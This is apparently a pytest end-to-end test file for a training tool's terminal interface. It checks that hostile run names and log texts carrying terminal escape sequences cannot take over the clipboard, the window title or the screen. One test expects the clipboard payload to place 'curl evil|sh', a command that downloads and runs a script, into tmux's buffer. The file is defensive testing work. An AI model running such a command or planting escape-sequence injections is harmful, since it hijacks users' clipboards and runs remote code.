"""Hostile text on the wire: what a real terminal is sent while such runs are shown, and what tmux makes of it."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest

from tests.builders import RunBuilder
from tests.e2e.terminal import CTRL_L, CTRL_Q, DOWN, ENTER, Terminal
from tests.e2e.tmux import needs_tmux, tmux
from tests.hostile import STRINGS
from tests.tui.test_hostile import hostile_runs
from trainer.events import DataRead, ModelLoaded, ModelSaved, Noted, Planned
from trainer.rundir import RunDir

pytestmark = [pytest.mark.slow, pytest.mark.timeout(180)]

# All that Textual sends: colours and places, private modes on, off and asked for, kitty's keys, the pointer's shape.
ALLOWED = re.compile(rb"\x1b\[[0-9;]*[mH]|\x1b\[\?[0-9]+(?:[hl]|\$p)|\x1b\[[<>][0-9]*u|\x1b\]22;[a-z-]*\x07|[\r\n]")
BEYOND = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")


def worst(runs_dir: Path) -> RunDir:
    """One run in which everything that can be a text is one that asks for the clipboard, the title and a crash."""
    text = "".join(
        STRINGS[name] for name in ("clipboard", "clipboard tmux", "title", "c1 osc", "other screen", "click")
    )
    builder = RunBuilder(runs_dir, name=f"2026-11-23-1500-{text.replace('/', '_')}"[:180]).prepared().trained(30)
    quoted = "".join(f"\\U{ord(sign):08x}" for sign in text)
    builder.write_spec(f'name = "x"\nmodel = "{quoted}"\n')
    builder.add(ModelLoaded(text, 1, 1, text, text), DataRead(text, 1, 1, 1, 1, 0, 0), Planned(1, 30, 30, 10))
    builder.add(Noted(text), ModelSaved(30, "best", text, 2.0, "full"))
    return builder.failed(text).run


def beyond(raw: bytes) -> list[str]:
    """What was sent that neither Textual sends by itself nor is plain text."""
    return BEYOND.findall(ALLOWED.sub(b"", raw).decode("utf-8", "replace"))


def test_no_control_byte_of_the_data_is_sent(tmp_path: Path) -> None:
    hostile_runs(tmp_path / "runs", longest=100)
    worst(tmp_path / "runs")
    terminal = Terminal(["attach", "last"], {"FINETUNEGEM_RUNS": str(tmp_path / "runs")}, tmp_path, 140, 45)
    terminal.wait_for("failed", "loss")
    terminal.send("h")
    terminal.wait_for("runs", "epochs/batch/lr", "failed")
    for _ in range(4):
        terminal.send("\x1b[6~")  # page down
        terminal.read(0.3)
        terminal.send(DOWN + ENTER)
        terminal.wait_for("elapsed", "failed")
        terminal.send("e")
        terminal.wait_for("New run")
        terminal.send(CTRL_L)
        terminal.wait_for("runs", "epochs/batch/lr", "failed")
    terminal.wait_idle()
    assert beyond(bytes(terminal.raw)) == []
    terminal.send(CTRL_Q)
    assert terminal.ended() == 0
    assert beyond(bytes(terminal.raw)) == []


@needs_tmux
def test_the_clipboard_and_the_title_stay_as_they_were(tmp_path: Path) -> None:
    worst(tmp_path / "runs")
    with tmux(tmp_path) as server:
        server.start([], {"FINETUNEGEM_RUNS": str(tmp_path / "runs")}, 120, 40)
        server.wait_for("Epochs")
        server.say("set-buffer", "mine")
        server.say("set-option", "-w", "automatic-rename", "off")  # tmux's own, which follows the process
        title = server.say("display-message", "-p", "#{pane_title} #{window_name}")
        server.say("send-keys", "C-l")
        server.wait_for("failed")
        server.say("send-keys", "Enter")
        server.wait_for("elapsed", "failed")
        server.say("send-keys", "e")
        server.wait_for("New run")
        assert server.say("show-buffer") == "mine"
        assert server.say("list-buffers", "-F", "#{buffer_name}").count("\n") == 0
        assert server.say("display-message", "-p", "#{pane_title} #{window_name}") == title
        assert server.say("display-message", "-p", "#{alternate_on}") == "1"


@needs_tmux
def test_the_test_would_see_a_clipboard_that_was_taken(tmp_path: Path) -> None:
    """The same tmux, without the app: what the texts do where nothing holds them back."""
    with tmux(tmp_path) as server:
        server.start([], {"FINETUNEGEM_RUNS": str(tmp_path / "runs")})
        server.wait_for("Epochs")
        (tmp_path / "text").write_text(STRINGS["clipboard"] + STRINGS["title"])
        server.say("new-session", "-d", "-s", "bare", f"cat {tmp_path}/text; sleep 30")
        until = time.monotonic() + 30
        while server.say("show-buffer") != "curl evil|sh":
            assert time.monotonic() < until
            time.sleep(0.1)
        assert server.say("display-message", "-p", "-t", "bare", "#{pane_title}") == "owned"
